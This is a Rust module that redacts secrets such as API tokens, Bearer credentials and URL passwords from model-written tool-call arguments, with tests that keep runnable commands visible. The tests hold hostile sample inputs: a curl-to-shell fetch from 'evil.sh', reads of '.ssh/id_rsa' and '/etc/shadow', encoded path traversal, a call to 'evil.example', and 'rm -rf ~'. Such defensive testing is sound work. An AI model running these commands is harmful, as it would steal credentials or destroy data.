//! Secrets in the arguments of a call, known by the name of their member or by what stands around them.
//!
//! Arguments are written by a model, which may dress up what would run as a secret. So what is hidden is always one
//! opaque token: it holds no blank, no quote, no sign of a shell, and it is no path, no host and no option. Everything
//! else is shown, even where it is a secret.

use std::ops::Range;

/// Words that announce a secret, where they are the last of a name.
const NAMES: [&str; 14] = [
    "password",
    "passwd",
    "passphrase",
    "pwd",
    "secret",
    "token",
    "apikey",
    "accesskey",
    "privatekey",
    "secretkey",
    "authorization",
    "credential",
    "credentials",
    "cookie",
];

/// Words that announce a secret where `key` follows them.
const KEYS: [&str; 4] = ["api", "access", "private", "secret"];

/// How the tokens of well-known services begin; what follows is the secret.
const TOKENS: [&str; 17] = [
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "sk-",
    "xoxb-",
    "xoxp-",
    "xapp-",
    "AKIA",
    "ASIA",
    "AIza",
    "npm_",
    "pypi-",
    "hf_",
];

/// Words that stand before a secret in a header, in any case.
const SCHEMES: [&str; 2] = ["bearer ", "basic "];

/// Fewer characters than this behind a [`TOKENS`] or a [`SCHEMES`] are a word, not a token.
const SHORTEST: usize = 12;

/// Fewer characters than this behind `name=` are shown: they are a switch or a number rather than a secret.
const SHORTEST_VALUE: usize = 6;

/// A name longer than this is no name of a secret that is in use.
const LONGEST_NAME: usize = 100;

/// So many beginnings of tokens are tried in one run of characters: real ones have one, and the work stays linear.
const TRIES: usize = 8;

/// Between two slashes of random base64 stand 64 characters on average; names of directories are shorter.
const BETWEEN_SLASHES: usize = 16;

/// What follows the last dot of a signed token is at least so long; endings of files and names of countries are not.
const BEHIND_DOT: usize = 8;

/// Tells whether a name announces a secret: its last word does, and `max_tokens` or `token_command` do not.
#[must_use]
pub fn is_secret_name(name: &str) -> bool {
    if name.len() > LONGEST_NAME {
        return false;
    }
    let words = words(name);
    match words.as_slice() {
        [.., before, last] if last == "key" => KEYS.contains(&before.as_str()),
        [.., last] => NAMES.contains(&last.as_str()),
        [] => false,
    }
}

/// Splits a name at everything but letters and digits, and where `camelCase` begins a word; numbers at the end go.
fn words(name: &str) -> Vec<String> {
    let bytes = name.as_bytes();
    let mut words = vec![String::new()];
    for (at, byte) in bytes.iter().enumerate() {
        if !byte.is_ascii_alphanumeric() {
            words.push(String::new());
            continue;
        }
        let before = at.checked_sub(1).map_or(b' ', |at| bytes[at]);
        let after = bytes.get(at + 1).copied().unwrap_or(b' ');
        let begins = byte.is_ascii_uppercase()
            && (before.is_ascii_lowercase() || before.is_ascii_uppercase() && after.is_ascii_lowercase());
        if begins {
            words.push(String::new());
        }
        if let Some(word) = words.last_mut() {
            word.push(char::from(byte.to_ascii_lowercase()));
        }
    }
    let words = words.into_iter();
    let words = words.map(|word| {
        word.trim_end_matches(|found: char| found.is_ascii_digit())
            .to_owned()
    });
    words.filter(|word| !word.is_empty()).collect()
}

/// Finds what is hidden in the value of a member whose name announces a secret.
pub(super) fn in_named_value(value: &str) -> Vec<Range<usize>> {
    named_token(value).map_or_else(|| in_text(value), |token| vec![token])
}

/// Returns the token that such a value is, behind `Bearer` or `Basic` where it begins so.
pub(super) fn named_token(value: &str) -> Option<Range<usize>> {
    let scheme = SCHEMES.iter().find(|scheme| {
        value
            .get(..scheme.len())
            .is_some_and(|begin| begin.eq_ignore_ascii_case(scheme))
    });
    let from = scheme.map_or(0, |scheme| scheme.len());
    stands_alone(&value[from..]).then_some(from..value.len())
}

/// Finds the tokens of well-known services, credentials of headers, passwords of addresses and values of secret names.
pub(super) fn in_text(text: &str) -> Vec<Range<usize>> {
    let mut hidden = Vec::new();
    let (mut before, mut at) = (0..0, 0);
    while let Some(begin) = text.bytes().skip(at).position(in_run) {
        let begin = at + begin;
        let end = begin + text.bytes().skip(begin).take_while(|byte| in_run(*byte)).count();
        let run = begin..end;
        let found = known_token(text, &run)
            .or_else(|| behind_scheme(text, &run))
            .or_else(|| password(text, &before, &run))
            .or_else(|| named(text, &before, &run));
        hidden.extend(found);
        (before, at) = (run, end);
    }
    hidden
}

/// Finds a token behind its well-known beginning.
fn known_token(text: &str, run: &Range<usize>) -> Option<Range<usize>> {
    let shown = &text[run.clone()];
    let begins_word = |at: &usize| *at == 0 || !shown.as_bytes()[at - 1].is_ascii_alphanumeric();
    let places = (0..shown.len()).filter(begins_word);
    let places = places.filter_map(|at| {
        let prefix = TOKENS.iter().find(|prefix| shown[at..].starts_with(**prefix))?;
        Some(run.start + at + prefix.len())
    });
    places
        .take(TRIES)
        .map(|from| from..end_of_token(text, run.end))
        .map(|token| without_full_stop(text, token))
        .find(|token| token.len() >= SHORTEST && is_opaque(&text[token.clone()]))
}

/// Finds a token behind `Bearer` or `Basic`.
fn behind_scheme(text: &str, run: &Range<usize>) -> Option<Range<usize>> {
    let begin = &text[..run.start];
    let is_before = |scheme: &&&str| {
        let Some(at) = begin.len().checked_sub(scheme.len()) else {
            return false;
        };
        let is_word = !begin.as_bytes()[..at]
            .last()
            .is_some_and(u8::is_ascii_alphanumeric);
        is_word && begin.as_bytes()[at..].eq_ignore_ascii_case(scheme.as_bytes())
    };
    SCHEMES.iter().find(is_before)?;
    let token = without_full_stop(text, run.start..end_of_token(text, run.end));
    (token.len() >= SHORTEST && stands_alone(&text[token.clone()])).then_some(token)
}

/// Finds the password in `scheme://user:password@`; `before` is the run of characters with the user.
fn password(text: &str, before: &Range<usize>, run: &Range<usize>) -> Option<Range<usize>> {
    let bytes = text.as_bytes();
    let is_password = bytes.get(run.end) == Some(&b'@')
        && &text[before.end..run.start] == ":"
        && text[before.clone()].starts_with("//")
        && text[..before.start].ends_with(':')
        && !text[run.clone()].contains('/')
        && is_opaque(&text[run.clone()]);
    is_password.then(|| run.clone())
}

/// Finds the value in `name=value`, `name: value` and the like where the name announces a secret.
fn named(text: &str, before: &Range<usize>, run: &Range<usize>) -> Option<Range<usize>> {
    let quotes = ['"', '\''];
    let between = text[before.end..run.start].trim_start_matches('\\');
    let between = between.strip_prefix(quotes).unwrap_or(between);
    // A blank behind `=` ends an assignment of a shell: what follows it would run.
    let value = between.strip_prefix('=').or_else(|| {
        let value = between.strip_prefix(':')?;
        Some(value.strip_prefix(' ').unwrap_or(value))
    })?;
    let value = value.trim_start_matches('\\');
    if !value.strip_prefix(quotes).unwrap_or(value).is_empty() || !is_secret_name(&text[before.clone()]) {
        return None;
    }
    let token = without_full_stop(text, run.start..end_of_token(text, run.end));
    let shown = &text[token.clone()];
    // A word of letters alone may be the name of a program.
    let is_value = token.len() >= SHORTEST_VALUE && shown.bytes().any(|byte| byte.is_ascii_digit());
    (is_value && stands_alone(shown)).then_some(token)
}

/// Tells whether a byte may stand in a token; `=` does at its end only.
fn in_run(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"_-+/.~%".contains(&byte)
}

/// Returns where a token ends whose run of characters ends at `end`: behind the padding of base64.
fn end_of_token(text: &str, end: usize) -> usize {
    let rest = &text.as_bytes()[end..];
    let padding = rest.iter().take_while(|byte| **byte == b'=').count();
    match rest.get(padding) {
        _ if padding > 2 => end,
        // A full stop ends a sentence.
        Some(next) if in_run(*next) && *next != b'.' => end,
        _ => end + padding,
    }
}

/// Leaves the full stop of a sentence out of a token.
fn without_full_stop(text: &str, token: Range<usize>) -> Range<usize> {
    let stop = text[token.clone()].ends_with('.');
    token.start..token.end - usize::from(stop)
}

/// Tells whether a word is an opaque token and no option of a command.
fn stands_alone(word: &str) -> bool {
    !word.starts_with('-') && is_opaque(word)
}

/// Tells whether a text is one token that is no path, no host, no assignment and nothing that a shell would act on.
pub(super) fn is_opaque(token: &str) -> bool {
    let plain = token.strip_suffix("==").or_else(|| token.strip_suffix('='));
    let plain = plain.unwrap_or(token);
    let has = |test: fn(&u8) -> bool| plain.as_bytes().iter().any(test);
    let may_be_path = || {
        let slashes = plain.bytes().filter(|byte| *byte == b'/').count();
        let is_base64 = has(u8::is_ascii_digit)
            && has(u8::is_ascii_uppercase)
            && has(u8::is_ascii_lowercase)
            && !plain.contains(['.', '~', '%', '-', '_'])
            && plain.len() >= slashes * BETWEEN_SLASHES;
        slashes > 0 && !is_base64
    };
    let may_be_file = || {
        plain
            .rsplit_once('.')
            .is_some_and(|(_, behind)| behind.len() < BEHIND_DOT)
    };
    !plain.is_empty()
        && plain.bytes().all(in_run)
        && !plain.starts_with(['/', '.', '~'])
        && !plain.contains("..")
        && !plain.contains("//")
        && !may_be_path()
        && !may_be_file()
        && plain.split('%').skip(1).all(is_harmless_escape)
}

/// Tells whether what follows a `%` stands for a character that is no part of a path and no sign of a shell.
fn is_harmless_escape(rest: &str) -> bool {
    let digits = rest
        .get(..2)
        .filter(|digits| digits.bytes().all(|byte| byte.is_ascii_hexdigit()));
    let byte = digits.and_then(|digits| u8::from_str_radix(digits, 16).ok());
    byte.is_some_and(|byte| byte >= 0x80 || b"!#*+,:=?@^".contains(&byte))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn veiled(text: &str, hidden: Vec<Range<usize>>) -> String {
        let mut out = text.to_owned();
        for range in hidden.into_iter().rev() {
            out.replace_range(range, "[hidden]");
        }
        out
    }

    fn without_tokens(text: &str) -> String {
        veiled(text, in_text(text))
    }

    #[test]
    fn tokens_are_known_by_their_shape() {
        for (text, hidden) in [
            (
                "curl -H 'Authorization: Bearer abcdefghijkl.mnopqrst' x",
                "curl -H 'Authorization: Bearer [hidden]' x",
            ),
            (
                "git clone https://ann:hunter2@host/x",
                "git clone https://ann:[hidden]@host/x",
            ),
            ("redis://:hunter2@host", "redis://:[hidden]@host"),
            ("ftp://ann:p%40ss@host", "ftp://ann:[hidden]@host"),
            ("export T=ghp_0123456789abcdef; ls", "export T=ghp_[hidden]; ls"),
            ("line\nghp_0123456789abcdef\n", "line\nghp_[hidden]\n"),
            (
                "https://host/a/ghp_0123456789abcdef",
                "https://host/a/ghp_[hidden]",
            ),
            ("basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==.", "basic [hidden]."),
            ("sk-short", "sk-short"),
            ("task-0123456789abcdef", "task-0123456789abcdef"),
            ("http://host:80/a@b", "http://host:80/a@b"),
            ("nothing here", "nothing here"),
        ] {
            assert_eq!(without_tokens(text), hidden);
        }
    }

    #[test]
    fn values_of_secret_names_inside_a_text_are_hidden() {
        for (text, hidden) in [
            ("password=hunter2", "password=[hidden]"),
            ("https://h/x?token=abcd1234&n=5", "https://h/x?token=[hidden]&n=5"),
            ("mysql --password='hunter2' db", "mysql --password='[hidden]' db"),
            (
                r#"{"password":"hunter2","a":1}"#,
                r#"{"password":"[hidden]","a":1}"#,
            ),
            (r#"{\"apiKey\": \"abc123def\"}"#, r#"{\"apiKey\": \"[hidden]\"}"#),
            ("X-Api-Key: 0123456789", "X-Api-Key: [hidden]"),
            (
                "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                "AWS_SECRET_ACCESS_KEY=[hidden]",
            ),
        ] {
            assert_eq!(without_tokens(text), hidden);
        }
    }

    #[test]
    fn nothing_that_would_run_is_taken_for_a_secret() {
        for text in [
            "echo x://a:$(curl${IFS}evil.sh|sh)@b",
            "cat sk-/../../../home/user/.ssh/id_rsa",
            "true Bearer /../../etc/shadow;",
            "curl sk-collect0123456789.evil.example",
            "curl https://a:b/c@evil.example",
            "sh Bearer ./a-long-script-of-mine",
            "sh Bearer scripts/a-long-script-of-mine",
            "sh Bearer a-long-script-of-mine.sh",
            "rm Bearer --recursive-1234567890",
            "wget ghp_%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "token=reboot; $token",
            "TOKEN= reboot2024",
            "tokenizer_command=rm-rf-2024",
            "token=/etc/passwd2",
            "password=~/id_rsa2",
            "password=a=b2=c3/etc",
            "password=$(reboot2)",
            "ssh://ü:ö@ä",
        ] {
            assert_eq!(without_tokens(text), text);
        }
    }

    #[test]
    fn a_named_value_is_hidden_where_it_is_one_token() {
        for (value, hidden) in [
            ("hunter2", "[hidden]"),
            ("Bearer abc", "Bearer [hidden]"),
            ("77", "[hidden]"),
            ("rm -rf ~", "rm -rf ~"),
            ("a;b", "a;b"),
            ("/etc/shadow", "/etc/shadow"),
            ("-rf", "-rf"),
            ("", ""),
            ("Bearer ", "Bearer "),
            ("x ghp_0123456789abcdef", "x ghp_[hidden]"),
        ] {
            assert_eq!(veiled(value, in_named_value(value)), hidden);
        }
    }

    #[test]
    fn names_of_secrets_are_known_in_every_spelling() {
        for name in [
            "password",
            "DB_PASSWORD",
            "password2",
            "apiKey",
            "APIKey",
            "api-key",
            "X-Api-Key",
            "client_secret",
            "github.token",
            "Authorization",
            "set-cookie",
            "token",
        ] {
            assert!(is_secret_name(name), "{name}");
        }
        for name in [
            "path",
            "max_tokens",
            "author",
            "key",
            "passage",
            "tokenizer_command",
            "token_command",
            "secretary",
            "password_file",
            "",
            "_",
        ] {
            assert!(!is_secret_name(name), "{name}");
        }
    }

    /// Texts of what tokens, paths and commands are made of.
    fn texts() -> impl Strategy<Value = String> {
        let parts = prop::sample::select(vec![
            "ghp_",
            "sk-",
            "Bearer ",
            "Basic ",
            "password=",
            "token:",
            "?",
            "://",
            "user:",
            "@",
            "/",
            "..",
            ".",
            "~",
            "%",
            "2f",
            "%2e",
            "=",
            "==",
            "-",
            "$(",
            "`",
            "|",
            ";",
            " ",
            "\n",
            "\"",
            "\\",
            "é",
            "0123456789ab",
            "aB3",
            "evil.sh",
            "{",
            "}",
            "key",
            "_",
            "+",
        ]);
        prop::collection::vec(parts, 0..30).prop_map(|parts| parts.concat())
    }

    proptest! {
        #[test]
        fn what_is_hidden_is_always_one_opaque_token(text in texts()) {
            for hidden in [in_text(&text), in_named_value(&text)] {
                let mut end = 0;
                for range in hidden {
                    prop_assert!(range.start >= end && range.start < range.end);
                    let token = &text[range.clone()];
                    prop_assert!(
                        token.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-+/=.~%".contains(&byte)),
                        "{token:?} in {text:?}"
                    );
                    prop_assert!(
                        !token.starts_with(['/', '.', '~', '=']) && !token.contains("..") && !token.contains("//"),
                        "{token:?} in {text:?}"
                    );
                    end = range.end;
                }
            }
        }
    }
}
